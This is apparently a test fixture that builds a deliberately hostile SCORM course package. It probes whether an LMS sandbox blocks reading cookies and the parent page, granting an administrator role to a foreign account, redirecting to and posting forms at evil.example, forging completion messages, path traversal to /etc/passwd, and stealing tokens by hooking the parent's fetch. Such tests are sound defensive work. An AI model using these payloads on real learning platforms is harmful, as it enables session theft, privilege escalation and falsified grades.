import { zipOf } from './zip.js';

/** Each tries something that no package may do, and says how it ended. `did` means that it worked. */
const PROBES = String.raw`
const tell = (probe, outcome) => { results[probe] = outcome; };
window.results = {};
const attempt = async (probe, act) => {
  try { tell(probe, (await act()) ? 'did' : 'blocked'); } catch (error) { tell(probe, 'blocked'); }
};
const quiet = (ms) => new Promise((resolve) => setTimeout(() => resolve(false), ms));
window.run = async (portal, foreign) => {
  await attempt('dom', () => window.top.document.body.innerHTML.length > 0);
  await attempt('storage', () => window.top.localStorage.length >= 0);
  await attempt('cookies', () => /lms_session/.test(document.cookie));
  await attempt('people', async () => (await fetch(portal + '/api/people', { credentials: 'include' })).ok);
  await attempt('role', async () => {
    const body = JSON.stringify({ role: 'administrator', scopeKind: 'site', scopeValue: null });
    const sent = navigator.sendBeacon(portal + '/api/people/' + foreign.account + '/roles', new Blob([body], { type: 'text/plain' }));
    const answer = await fetch(portal + '/api/people/' + foreign.account + '/roles', { method: 'POST', body, credentials: 'include', mode: 'no-cors' });
    return sent || answer.type !== 'error';
  });
  await attempt('navigation', async () => { window.top.location.href = 'https://evil.example/'; return quiet(300); });
  await attempt('popup', () => {
    const opened = window.open(portal + '/learning', '_blank');
    return opened !== null && opened.document.body.innerHTML.length >= 0 && opened.location.origin === portal;
  });
  await attempt('messages', async () => {
    for (const type of ['saved', 'ended', 'flushed']) window.top.postMessage({ source: 'integra-player', type, reason: 'left', at: new Date().toISOString(), summary: { completion: 'completed', success: 'passed', percent: 100, seconds: 1, isDone: true } }, '*');
    window.parent.postMessage({ source: 'integra-portal', type: 'leave' }, '*');
    return quiet(500);
  });
  await attempt('forms', async () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/take'; form.method = 'post'; form.target = 'sink';
    const sink = document.createElement('iframe');
    sink.name = 'sink';
    document.body.append(form, sink);
    let isRefused = false;
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => { if (effectiveDirective === 'form-action') isRefused = true; });
    form.submit();
    await quiet(500);
    return !isRefused;
  });
  await attempt('foreignAttempt', async () => {
    const commit = { token: 'A'.repeat(43), sequence: 1, activity: 'a', visit: 1, isNewAttempt: false, set: {}, calls: [], isTerminated: false, sequencing: null, root: null, objectives: {}, stores: {} };
    const guessed = await fetch('/runtime/commits', { method: 'POST', body: JSON.stringify(commit) });
    const exchanged = await fetch('/runtime/exchange', { method: 'POST', body: JSON.stringify({ code: 'A'.repeat(43) }) });
    return guessed.ok || exchanged.ok;
  });
  await attempt('otherFiles', async () => {
    const asked = await Promise.all(['/p/', '/p/' + 'A'.repeat(22) + '/index.html', '/p/../api/people', '/p/..%2f..%2fetc/passwd'].map((path) => fetch(path)));
    return asked.some(({ ok }) => ok);
  });
  await attempt('worker', async () => { await navigator.serviceWorker.register('worker.js'); return true; });
  await attempt('outside', () => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve(true); image.onerror = () => resolve(false);
    image.src = portal + '/favicon.ico';
  }));
  return window.results;
};
// A token that the shell sends is seen by a package of the same origin; what it is good for is the question.
const taken = [];
window.taken = taken;
const send = window.parent.fetch;
window.parent.fetch = (...request) => { try { taken.push(JSON.parse(request[1].body).token); } catch {} return send.apply(window.parent, request); };
`;

const PAGE = `<!doctype html><html lang="en"><title>Hostile</title><body><h1>Hostile</h1><script>${PROBES}</script>
<script>
let api = null;
for (let at = window; at !== at.parent && !api; at = at.parent) api = at.parent.API;
api.LMSInitialize('');
window.save = (value) => { api.LMSSetValue('cmi.core.lesson_location', value); return api.LMSCommit(''); };
window.reach = () => ['cmi', 'settings.lmsCommitUrl', 'currentState', '__proto__.polluted'].map((name) => api.LMSSetValue(name, 'x'));
</script></body></html>`;

const MANIFEST = `<?xml version="1.0"?>
<manifest identifier="hostile" version="1.2" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>Hostile</title>
    <item identifier="a" identifierref="r"><title>Hostile</title></item>
  </organization></organizations>
  <resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="index.html"/></resources>
</manifest>`;

export const hostilePackage = (): Buffer =>
  zipOf({ 'imsmanifest.xml': MANIFEST, 'index.html': PAGE, 'worker.js': 'onfetch = () => undefined;' });
